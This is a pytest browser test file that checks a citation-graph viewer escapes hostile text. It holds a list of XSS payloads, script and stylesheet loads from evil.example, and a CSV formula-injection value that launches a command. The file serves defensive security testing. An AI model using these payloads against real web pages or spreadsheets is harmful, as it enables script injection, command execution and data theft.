"""Text of papers can be anything at all: it must stay text, wherever the page shows it."""

from collections.abc import Callable
from typing import Any

import pytest

from citegraph.graph.model import Edge, Node, PropertyValue, Subgraph

pytestmark = pytest.mark.browser
Open = Callable[..., Any]

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<!--<script>alert(3)//",
    "<img src=x onerror=alert(4)>",
    "<svg/onload=alert(5)>",
    '"><iframe src="javascript:alert(6)"></iframe>',
    "' onmouseover='alert(7)",
    "</title><script>alert(8)</script>",
    "</style><script>alert(9)</script>",
    "<style>@import url(https://evil.example/x.css)</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "{{constructor.constructor('alert(10)')()}}",
    "${alert(11)}",
    "__proto__",
    "\u2028alert(12)\u2029",
    "javascript:alert(13)",
    "\u202eesrever\u202c",
    "a" * 10_000,
]


def hostile(payload: str) -> Subgraph:
    """A graph with the payload in every place that holds text."""
    evidence: dict[str, PropertyValue] = {
        "sentence": payload,
        "surface": payload,
        "field": "abstract",
        "start": 0,
        "end": 3,
    }
    claim: dict[str, PropertyValue] = evidence | {
        "outcome": "better",
        "value": payload,
        "metric": payload,
        "subject": payload,
        "baseline": payload,
        "dataset": payload,
        "evidence": payload,
        "unit": "factor",
        "number": 2.0,
        "paper": f"paper:{payload}",
    }
    paper: dict[str, PropertyValue] = {
        "abstract": payload,
        "authors": (payload,),
        "venue": payload,
        "year": 2020,
        "url": payload,
        "doi": payload,
        "arxiv_id": payload,
        "code": (payload, "javascript:alert(14)"),
    }
    nodes = [
        Node(id=f"paper:{payload}", label="Paper", name=payload, aliases=(payload,), properties=paper),
        Node(id="paper:other", label="Paper", name="Other", properties={"url": "javascript:alert(15)", "year": 2021}),
        Node(id=f"method:{payload}", label="Method", name=payload, aliases=(payload,), properties={"kind": payload}),
        Node(id="method:b", label="Method", name="b"),
        Node(id=f"claim:{payload}", label="Claim", name=payload, properties=claim),
    ]
    edges = [
        Edge(source=f"paper:{payload}", type="INTRODUCES", target=f"method:{payload}", properties=evidence),
        Edge(source="paper:other", type="USES", target=f"method:{payload}", properties=evidence),
        Edge(source=f"paper:{payload}", type="CLAIMS", target=f"claim:{payload}"),
        Edge(source=f"claim:{payload}", type="SUBJECT", target=f"method:{payload}"),
        Edge(source=f"claim:{payload}", type="BASELINE", target="method:b"),
        Edge(source=f"method:{payload}", type="OUTPERFORMS", target="method:b", properties={"claims": 1}),
        Edge(source="paper:other", type="BUILDS_ON", target=f"paper:{payload}", properties={"via": (payload,)}),
        Edge(
            source="paper:other",
            type="RELATED_TO",
            target=f"paper:{payload}",
            properties={"weight": 1.0, "shared": (payload,)},
        ),
    ]
    return Subgraph.of({node.id: node for node in nodes}, {edge.key: edge for edge in edges})


VISIT = """() => {
    for (const node of citegraph.model.nodes) {
        citegraph.state.select(node);
        document.querySelectorAll("#panel .why, #panel .more").forEach((button) => button.click());
    }
    for (const edge of citegraph.model.edges) citegraph.state.change({ selected: null, edge });
    citegraph.map.svg();
}"""


def test_no_text_runs_asks_or_navigates(open_view: Open) -> None:
    parts = [hostile(payload) for payload in PAYLOADS]
    nodes = {node.id: node for part in parts for node in part.nodes}
    edges = {edge.key: edge for part in parts for edge in part.edges}
    opened = open_view(Subgraph.of(nodes, edges), title=" ".join(PAYLOADS[:-1]))
    opened.page.evaluate(VISIT)
    for payload in PAYLOADS:
        opened.page.get_by_role("combobox").fill(payload[:40])
    for tab in opened.page.get_by_role("tab").all():
        tab.click()
    opened.page.wait_for_timeout(100)
    assert opened.page.url.startswith("file:")
    assert (opened.dialogs, opened.requests, opened.errors) == ([], [], [])
    assert (
        opened.page.evaluate("document.querySelectorAll('iframe, img, link[rel=stylesheet], main script').length") == 0
    )
    links = opened.page.evaluate("[...document.querySelectorAll('a[href]')].map((link) => link.href)")
    assert not [link for link in links if link.lower().startswith("javascript:")]


VISIT_CLUSTERS = """() => {
    for (const cluster of citegraph.clusters.all) citegraph.clusters.choose(cluster);
    for (const node of citegraph.clusters.shown().slice(0, 20)) citegraph.state.select(node);
    const picture = new DOMParser().parseFromString(citegraph.clusters.svg(), "image/svg+xml");
    return picture.querySelector("parsererror, script");
}"""


def test_no_text_of_a_cluster_runs_or_asks(open_view: Open) -> None:
    names = PAYLOADS[:-1] * 6
    papers = [Node(id=f"paper:{n} {name}", label="Paper", name=name) for n, name in enumerate(names)]
    shared = [Node(id=f"method:{name}", label="Method", name=name) for name in PAYLOADS[:-1]]
    edges = [
        Edge(source=paper.id, type="USES", target=f"method:{paper.name}", properties={"sentence": paper.name})
        for paper in papers
    ]
    graph = Subgraph.of({node.id: node for node in (*papers, *shared)}, {edge.key: edge for edge in edges})
    nodes = {f"concept:{n}": Node(id=f"concept:{n}", label="Concept", name=name) for n, name in enumerate(names)}
    about = [Edge(source=paper.id, type="ABOUT", target=f"concept:{n}") for n, paper in enumerate(papers)]
    more = {edge.key: edge for edge in (*graph.edges, *about)}
    opened = open_view(Subgraph.of({node.id: node for node in graph.nodes} | nodes, more), fragment="#tab=clusters")
    assert opened.page.evaluate(VISIT_CLUSTERS) is None
    opened.page.wait_for_timeout(300)
    assert (opened.dialogs, opened.requests, opened.errors) == ([], [], [])
    assert opened.page.evaluate("document.querySelectorAll('iframe, img, main script').length") == 0


def test_the_policy_stops_what_a_mistake_would_let_through(open_view: Open) -> None:
    opened = open_view(Subgraph(nodes=(Node(id="paper:x", label="Paper", name="x"),)))
    opened.page.evaluate(
        """() => {
            const markup = "<img src=x onerror=alert(1)><a id=go href='javascript:alert(2)'>go</a>";
            document.body.insertAdjacentHTML("beforeend", markup);
            const script = document.createElement("script");
            script.textContent = "alert(3)";
            document.body.append(script);
            const far = document.createElement("script");
            far.src = "https://evil.example/x.js";
            document.body.append(far);
            document.getElementById("go").click();
        }"""
    )
    opened.page.wait_for_timeout(200)
    assert opened.dialogs == []
    # The developer tools list a request that the policy refuses; none leaves the browser.
    assert opened.refused["https://evil.example/x.js"] == "csp"
    assert set(opened.refused.values()) == {"csp"}


def test_a_saved_table_holds_no_formula_and_no_broken_row(open_view: Open) -> None:
    graph = hostile("=cmd|'/c calc'!A1")
    opened = open_view(graph)
    csv = opened.page.evaluate("citegraph.downloads.csv()")
    assert "\"'=cmd" in csv
    assert '"=cmd' not in csv
    table = open_view(hostile("a | b\nc <b>d</b>")).page.evaluate("citegraph.downloads.markdown()")
    assert len(table.splitlines()) == 3
    assert "\\| b c \\<b\\>d" in table


def test_a_saved_picture_is_well_formed_whatever_the_names(open_view: Open) -> None:
    parsed = """() => new DOMParser()
        .parseFromString(citegraph.map.svg(), "image/svg+xml")
        .querySelectorAll("parsererror, script").length"""
    for payload in ("</text><script>alert(1)</script>", "a\u0000b\u000bc", "&amp; ]]> <"):
        assert open_view(hostile(payload)).page.evaluate(parsed) == 0
